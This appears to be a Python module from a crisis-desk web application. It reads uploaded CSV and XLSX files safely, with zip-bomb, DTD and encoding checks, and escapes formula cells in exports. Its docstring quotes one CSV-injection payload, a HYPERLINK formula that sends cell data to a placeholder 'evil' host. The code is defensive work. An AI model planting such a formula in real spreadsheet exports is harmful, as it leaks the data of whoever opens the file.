"""Spreadsheets in and out: the files people bring (CSV and XLSX, read into rows of text) and
the cells written into files that people open in a spreadsheet (CSV and XLSX exports, the
file of rejected import rows).

Reading (`sheet_read`), by the file's content and never its name:
- XLSX (a zip): the first worksheet, through openpyxl in read-only mode with cached values for
  formulas. Before openpyxl sees it, the zip's declared sizes are checked (a zip bomb is refused
  unopened; Python's zipfile never inflates a member beyond its declared size, so the check
  holds) and its parts are scanned for a DTD, which no Excel file has and XML attacks need.
  openpyxl without defusedxml parses with the standard library's expat, which neither fetches
  external entities nor expands entities exponentially (expat >= 2.4); the scan makes that
  independent of the library versions. The size a sheet declares (`<dimension>`) is not
  trusted: rows are read to the last one there is.
- CSV: decoded strictly, never with replacement characters. The encoding from its byte-order
  mark, else UTF-8, else one of the legacy encodings of the desk's languages: Windows-1251 or
  KOI8-U (Ukrainian, Russian), Windows-1255 or ISO-8859-8 (Hebrew), whichever the letters say
  (`_legacy_decoded`). The delimiter comma, semicolon or tab, whichever splits the header and
  the rows alike. A text with control characters is binary that happened to decode, and is
  refused; so are files whose first bytes say they are something else (PDF, executables,
  images, old .xls).
- Every cell is text as the spreadsheet shows it (12 not 12.0, a date as 2026-03-31). Wholly
  blank rows are skipped; the first non-blank row is the header; rows keep the numbers the
  spreadsheet gives them. The encoding and the delimiter found are part of the result.

The caller gives the limits (bytes, data rows, columns, what an XLSX may unpack to), and maps
`SheetRejected` to its own error codes if it has them.

Writing (`spreadsheet_safe`): Excel, LibreOffice and Google Sheets read a cell that starts with
`=`, `+`, `-` or `@` as a formula, and a tab or carriage return in front of one can slip it past
a naive check (OWASP, "CSV Injection"). The text in our exports comes partly from uploads and
forms that anyone may have filled in: `=HYPERLINK("http://evil/?"&A1, "details")` in a donor's
name would run on the desk officer's machine, with the officer's data. So every such cell is
written with a leading apostrophe, which spreadsheets take as "this is text". A plain negative
number ("-5") is prefixed too: one rule that never lets a formula through is worth more than a
number that stays a number in a file meant for reading, not for sums.
"""

import codecs
import csv
import io
import math
import re
import unicodedata
import zipfile
import zlib
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import date, datetime, time
from enum import StrEnum

from django.utils.translation import gettext_lazy as _

from crisisdesk.common.errors import CodedValidationError

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> str:
    """The cell's text, with an apostrophe in front when a spreadsheet would read it as a
    formula. `None` is an empty cell."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


# --- reading: errors and results -------------------------------------------------------------


class SheetError(StrEnum):
    EMPTY = "file_empty"
    TOO_LARGE = "file_too_large"
    UNREADABLE = "file_unreadable"
    TOO_MANY_ROWS = "too_many_rows"
    TOO_MANY_COLUMNS = "too_many_columns"


SHEET_MESSAGES = {
    SheetError.EMPTY: _("The file is empty."),
    SheetError.TOO_LARGE: _("The file is too large."),
    SheetError.UNREADABLE: _("The file could not be read as CSV or XLSX."),
    SheetError.TOO_MANY_ROWS: _("The file has more rows than one import takes."),
    SheetError.TOO_MANY_COLUMNS: _("The file has more columns than one import takes."),
}


class SheetRejected(CodedValidationError):
    """A file refused whole. `details` says which limit (`max_bytes`, `max_rows`,
    `max_columns`) or, for a file whose byte-order mark lies, the `encoding` it claimed."""

    messages = SHEET_MESSAGES

    def __init__(self, code: SheetError, field: str | None = "file", details: dict | None = None):
        super().__init__(code, field)
        self.details = details or {}


@dataclass(frozen=True, slots=True)
class SheetRow:
    number: int  # as the spreadsheet numbers it, the header row counting
    cells: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Sheet:
    file_format: str  # CSV or XLSX
    header: tuple[str, ...]  # without the empty cells at its right
    rows: list[SheetRow]  # the non-blank rows under the header
    encoding: str = ""  # of a CSV: "utf-8", "utf-8-sig", "utf-16", "cp1251", "koi8-u", …
    delimiter: str = ""  # of a CSV: ",", ";" or "\t"


CSV, XLSX = "csv", "xlsx"

XLSX_MAX_MEMBERS = 1000

# Files that are plainly something else, whatever their name: refused before any decoding
# (single-byte encodings decode almost anything, so a PDF would otherwise "read" as text).
_BINARY_SIGNATURES = (
    b"%PDF-",
    b"MZ",  # Windows executables
    b"\x7fELF",
    b"\xd0\xcf\x11\xe0",  # OLE: .xls, .doc and .msg
    b"\x89PNG",
    b"\xff\xd8\xff",
    b"GIF8",
    b"\x1f\x8b",  # gzip
    b"Rar!",
    b"7z\xbc\xaf",
)
_ZIP_SIGNATURE = b"PK\x03\x04"
_BOMS = (
    (codecs.BOM_UTF32_LE, "utf-32"),
    (codecs.BOM_UTF32_BE, "utf-32"),
    (codecs.BOM_UTF8, "utf-8-sig"),
    (codecs.BOM_UTF16_LE, "utf-16"),
    (codecs.BOM_UTF16_BE, "utf-16"),
)
# Control characters no spreadsheet text holds (tab, newlines and form feeds aside), C1 too:
# a file with them is binary that happened to decode.
_CONTROL = re.compile(r"[\x00-\x08\x0e-\x1f\x7f-\x9f]")
_DTD_MARKERS = tuple(
    marker.encode(encoding) for marker in ("<!DOCTYPE", "<!ENTITY") for encoding in ("utf-8", "utf-16-le", "utf-16-be")
)


def header_key(text: str) -> str:
    """A header name normalised for matching: "Gross Weight (kg)", "gross_weight_kg" and
    "GROSS WEIGHT, KG" are one name; so are "Volume (m³)" and "volume m3" (NFKC makes ³ a 3)."""
    text = unicodedata.normalize("NFKC", text).casefold().replace("_", " ")
    return " ".join(re.sub(r"[^\w]+", " ", text).split())


def _unreadable(**details) -> SheetRejected:
    return SheetRejected(SheetError.UNREADABLE, details=details)


def _blank(cells: Iterable[str]) -> bool:
    return not any(cell.strip() for cell in cells)


def _sheet_of(
    file_format: str,
    records: Iterator[tuple[int, tuple[str, ...]]],
    *,
    max_rows: int,
    max_columns: int,
    encoding: str = "",
    delimiter: str = "",
) -> Sheet:
    """The first non-blank record is the header; blank records are skipped everywhere."""
    header: tuple[str, ...] | None = None
    rows: list[SheetRow] = []
    for number, cells in records:
        if _blank(cells):
            continue
        if header is None:
            header = cells
            continue
        if len(rows) == max_rows:
            raise SheetRejected(SheetError.TOO_MANY_ROWS, details={"max_rows": max_rows})
        rows.append(SheetRow(number=number, cells=cells))
    if header is None:
        raise SheetRejected(SheetError.EMPTY)
    while header and not header[-1].strip():  # formatted but empty columns at the right
        header = header[:-1]
    if len(header) > max_columns:
        raise SheetRejected(SheetError.TOO_MANY_COLUMNS, details={"max_columns": max_columns})
    return Sheet(file_format=file_format, header=header, rows=rows, encoding=encoding, delimiter=delimiter)


# --- CSV: the encoding ---------------------------------------------------------------------

# How often each letter comes in Ukrainian and Russian text, per mille, the two averaged
# (і, ї, є, ґ are Ukrainian only, ы, э, ъ, ё Russian only). Rough figures serve: they only have
# to tell a text from the same bytes read in the other Cyrillic encoding.
_LETTER_PER_MILLE = {
    "о": 100, "а": 78, "и": 67, "н": 66, "е": 66, "т": 57, "в": 49, "с": 49, "р": 47,
    "л": 40, "к": 35, "і": 30, "у": 30, "д": 30, "м": 30, "п": 28, "я": 23, "з": 20,
    "ь": 17, "г": 16, "б": 16, "ч": 14, "х": 11, "ы": 10, "й": 10, "ж": 9, "ш": 8,
    "ю": 7, "ц": 5, "щ": 4, "ї": 4, "є": 3, "э": 2, "ф": 2, "ъ": 0.2, "ё": 0.2, "ґ": 0.1,
}  # fmt: skip
_LETTER_WEIGHT = {letter: math.log(per_mille) for letter, per_mille in _LETTER_PER_MILLE.items()}
_OTHER_LETTER_WEIGHT = math.log(0.01)  # Serbian, Belarusian, Macedonian letters: rare here
# A lowercase Cyrillic letter followed by a capital, inside a word: "кОВДРИ" is what a
# capitalised word becomes in the other encoding (one swaps the cases of the other), and
# costs as much as several rare letters.
_CASE_INVERSION = re.compile(r"[\u0430-\u045f\u0491][\u0400-\u042f\u0490]")
_CASE_INVERSION_WEIGHT = math.log(1 / 1000)
# Box drawing and blocks: what KOI8-U's bytes 0x80-0xBF mostly are, and what Windows-1251's
# quotes, dashes, №, Ё, І, є and ї become in KOI8-U. Nobody types them into a spreadsheet.
_PSEUDO_GRAPHICS = re.compile(r"[\u2320\u2321\u2500-\u25ff]")
_HEBREW_LETTER_BYTES = range(0xE0, 0xFF)  # the letters and, at 0xFD-0xFE, the direction marks
_CYRILLIC_WORD = re.compile(r"[\u0400-\u04ff]{2,}")
_HEBREW_FINAL = re.compile(r"[ךםןףץ]")
_HEBREW_FINAL_INSIDE = re.compile(r"[ךםןףץ](?=[\u05d0-\u05ea])")


def _cyrillic(char: str) -> bool:
    return "\u0400" <= char <= "\u04ff"


def _cyrillic_score(text: str) -> float:
    """How much the text looks like Ukrainian or Russian: its Cyrillic letters weighted by how
    common they are, less the case inversions inside words."""
    score = sum(
        count * _LETTER_WEIGHT.get(char.lower(), _OTHER_LETTER_WEIGHT)
        for char, count in Counter(text).items()  # counted first: a file may hold megabytes
        if _cyrillic(char)
    )
    return score + len(_CASE_INVERSION.findall(text)) * _CASE_INVERSION_WEIGHT


def _strictly(content: bytes, encoding: str) -> str | None:
    try:
        return content.decode(encoding)
    except UnicodeDecodeError:
        return None


def _hebrew_reading(content: bytes) -> tuple[str, str] | None:
    """Windows-1255, what Hebrew Excel saves; it reads every letter and mark of ISO-8859-8
    alike, differing only where ISO has control codes, and 0xA4, which it reads as ₪, not ¤.
    ISO-8859-8 when a byte undefined in Windows-1255 (0xDF, ‗) says the file is that."""
    for encoding in ("cp1255", "iso-8859-8"):
        text = _strictly(content, encoding)
        if text is not None:
            return text, encoding
    return None


def _cyrillic_reading(content: bytes) -> tuple[str, str] | None:
    """Windows-1251 or KOI8-U, whichever reads as Ukrainian or Russian (`_cyrillic_score`).
    KOI8-U puts the lowercase letters at 0xC0-0xDF and the capitals at 0xE0-0xFF, Windows-1251
    the other way round, and in another order: the same bytes read in the wrong one swap the
    cases and shuffle the letters (о becomes Н, а becomes Ю). Common letters and words that
    are all lowercase, all capitals or capitalised win it. KOI8-U decodes any byte; a reading
    with its pseudo-graphics is not a text anyone typed."""
    readings = []
    cp1251_text = _strictly(content, "cp1251")
    if cp1251_text is not None:
        readings.append((cp1251_text, "cp1251"))
    koi8_text = content.decode("koi8-u")
    if not _PSEUDO_GRAPHICS.search(koi8_text):
        readings.append((koi8_text, "koi8-u"))
    if not readings:
        return None
    # On a tie (no Cyrillic letter at all), Windows-1251, by far the more common.
    return max(readings, key=lambda reading: (_cyrillic_score(reading[0]), reading[1] == "cp1251"))


def _legacy_decoded(content: bytes) -> tuple[str, str]:
    """The text of a file that is neither marked nor UTF-8, and its encoding.

    The Cyrillic reading first (`_cyrillic_reading`), then Hebrew or Cyrillic. The Hebrew
    letters' bytes (0xE0-0xFA) read as Windows-1251 are the Cyrillic а-ъ, and as KOI8-U the
    capitals, so every Hebrew text also "reads" as Cyrillic (and its direction marks,
    0xFD-0xFE, as two letters more). What decides is, first, the Cyrillic letters a Hebrew
    text cannot give, those of other bytes: in Windows-1251 the capitals, я, і ї є ґ; in
    KOI8-U the lowercase letters (and many of them, like ы ь in Windows-1251, are bytes no
    Hebrew encoding has, so with them the Hebrew reading fails outright). Ukrainian or Russian
    has plenty, a word starting with a capital is enough: 5% of the letters inside words, and
    the text is Cyrillic. Then, for a text in lowercase or in capitals alone, where the
    Hebrew final letters stand (`_final_letters_at_word_ends`).
    """
    cyrillic = _cyrillic_reading(content)
    hebrew = _hebrew_reading(content)
    if cyrillic is None or hebrew is None:
        reading = cyrillic if hebrew is None else hebrew
        if reading is None:
            raise _unreadable()
        return reading
    text, encoding = cyrillic
    # Letters inside words only: a ₪ that KOI8-U reads as є, between spaces, says nothing.
    letters = Counter("".join(_CYRILLIC_WORD.findall(text)))
    hebrew_letters_read = set(bytes(_HEBREW_LETTER_BYTES).decode(encoding))
    not_hebrew = sum(count for letter, count in letters.items() if letter not in hebrew_letters_read)
    if letters and not_hebrew * 20 >= letters.total():
        return cyrillic
    return hebrew if _final_letters_at_word_ends(hebrew[0]) else cyrillic


def _final_letters_at_word_ends(text: str) -> bool:
    """Whether the Hebrew final forms (ך ם ן ף ץ) end words, as they do in Hebrew. Their bytes
    are the Cyrillic к н п у х in Windows-1251 and К М П С У in KOI8-U, common letters inside
    words: a text in lowercase or in capitals alone gives itself away by them."""
    finals = len(_HEBREW_FINAL.findall(text))
    inside = len(_HEBREW_FINAL_INSIDE.findall(text))
    return inside * 4 <= finals


def _decoded(content: bytes) -> tuple[str, str]:
    """The text of a CSV file, decoded strictly, and its encoding: a byte-order mark decides;
    then UTF-8, which a legacy file practically never passes by accident; then the letters."""
    for bom, encoding in _BOMS:
        if content.startswith(bom):
            try:
                return content.decode(encoding), encoding
            except UnicodeDecodeError as error:
                raise _unreadable(encoding=encoding) from error
    text = _strictly(content, "utf-8")
    if text is not None:
        return text, "utf-8"
    return _legacy_decoded(content)


# --- CSV: the delimiter and the rows ----------------------------------------------------------


def _records(text: str, delimiter: str) -> Iterator[tuple[int, tuple[str, ...]]]:
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    for number, record in enumerate(reader, start=1):
        yield number, tuple(record)


def _delimiter(text: str) -> str:
    """The one of , ; tab that splits the header into several columns and the first rows
    into as many (a semicolon file with decimal commas splits on commas only in its rows)."""
    best, best_score = ",", None
    for delimiter in (",", ";", "\t"):
        widths = []
        try:
            for _number, cells in _records(text, delimiter):
                if not _blank(cells):
                    widths.append(len(cells))
                if len(widths) == 50:
                    break
        except csv.Error:
            continue
        if not widths:  # nothing but delimiters and spaces: an empty file
            return delimiter
        header_width = widths[0]
        alike = sum(1 for width in widths if width == header_width) / len(widths)
        score = (header_width > 1, alike, header_width)
        if best_score is None or score > best_score:
            best, best_score = delimiter, score
    return best


def _csv_read(content: bytes, *, max_rows: int, max_columns: int) -> Sheet:
    # The csv module refuses a field over 131,072 characters, failing the whole file; a cell
    # can be as long as the file the caller accepts, and it is for the caller to refuse it
    # alone (the registry import rejects that row, keeping it cut short).
    csv.field_size_limit(max(csv.field_size_limit(), len(content)))
    text, encoding = _decoded(content)
    if _CONTROL.search(text):
        raise _unreadable()
    delimiter = _delimiter(text)
    try:
        return _sheet_of(
            CSV,
            _records(text, delimiter),
            max_rows=max_rows,
            max_columns=max_columns,
            encoding=encoding,
            delimiter=delimiter,
        )
    except csv.Error as error:  # an unterminated quote over a field's size, for one
        raise _unreadable() from error


# --- XLSX ------------------------------------------------------------------------------------


def _xlsx_checked(content: bytes, *, max_unpacked_bytes: int) -> None:
    """Refuse, before parsing, an archive that unpacks to far more than the limit, and any
    part carrying a DTD (entities are how XML bombs and external-entity reads work)."""
    try:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            members = archive.infolist()
            if len(members) > XLSX_MAX_MEMBERS or sum(m.file_size for m in members) > max_unpacked_bytes:
                raise SheetRejected(SheetError.TOO_LARGE)
            for member in members:
                with archive.open(member) as part:
                    tail = b""
                    while chunk := part.read(1024 * 1024):
                        window = tail + chunk
                        if any(marker in window for marker in _DTD_MARKERS):
                            raise _unreadable()
                        tail = window[-32:]
    except (zipfile.BadZipFile, zlib.error, OSError, EOFError, NotImplementedError, RuntimeError) as error:
        # RuntimeError: an encrypted member; NotImplementedError: an unknown compression.
        raise _unreadable() from error


def _cell_text(value: object) -> str:
    """A cell as the spreadsheet shows it: 12 not 12.0, a date as 2026-03-31."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, float):
        # Excel shows 15 significant digits; 0.1+0.2 is 0.3 there, and so here.
        return format(value, ".15g")
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == time(0) else value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def _xlsx_read(content: bytes, *, max_rows: int, max_columns: int, max_unpacked_bytes: int) -> Sheet:
    _xlsx_checked(content, max_unpacked_bytes=max_unpacked_bytes)
    from openpyxl import load_workbook

    try:
        workbook = load_workbook(io.BytesIO(content), read_only=True, data_only=True, keep_links=False)
    except Exception as error:  # any parser failure means the file is not a workbook we read
        raise _unreadable() from error
    try:
        if not workbook.worksheets:
            raise _unreadable()
        sheet = workbook.worksheets[0]
        # The <dimension> a file declares may be wrong, and openpyxl trusts it: too few rows
        # would drop the rest silently, too many columns would pad every row to 16,384.
        sheet.reset_dimensions()

        def records() -> Iterator[tuple[int, tuple[str, ...]]]:
            rows = sheet.iter_rows(min_row=1, max_col=max_columns + 1, values_only=True)
            for number, values in enumerate(rows, start=1):
                cells = tuple(_cell_text(value) for value in values)
                if len(cells) > max_columns and cells[max_columns].strip():
                    raise SheetRejected(SheetError.TOO_MANY_COLUMNS, details={"max_columns": max_columns})
                # openpyxl pads every row to `max_col` with empty cells: they are not the file's.
                width = min(len(cells), max_columns)
                while width and cells[width - 1] == "":
                    width -= 1
                yield number, cells[:width]

        return _sheet_of(XLSX, records(), max_rows=max_rows, max_columns=max_columns)
    except SheetRejected:
        raise
    except Exception as error:  # a damaged sheet part fails while its rows are read
        raise _unreadable() from error
    finally:
        workbook.close()


def sheet_read(
    content: bytes,
    *,
    max_bytes: int,
    max_rows: int,
    max_columns: int = 100,
    max_unpacked_bytes: int = 64 * 1024 * 1024,
) -> Sheet:
    """The header and the non-blank rows of a CSV or XLSX file, every cell as text; or
    `SheetRejected` when the file is empty, over a limit, or neither. `max_rows` counts the
    data rows, not the header nor blank rows; `max_unpacked_bytes` is what an XLSX may
    unpack to."""
    if not content:
        raise SheetRejected(SheetError.EMPTY)
    if len(content) > max_bytes:
        raise SheetRejected(SheetError.TOO_LARGE, details={"max_bytes": max_bytes})
    if content.startswith(_ZIP_SIGNATURE):
        return _xlsx_read(content, max_rows=max_rows, max_columns=max_columns, max_unpacked_bytes=max_unpacked_bytes)
    if content.startswith(_BINARY_SIGNATURES):
        raise _unreadable()
    return _csv_read(content, max_rows=max_rows, max_columns=max_columns)
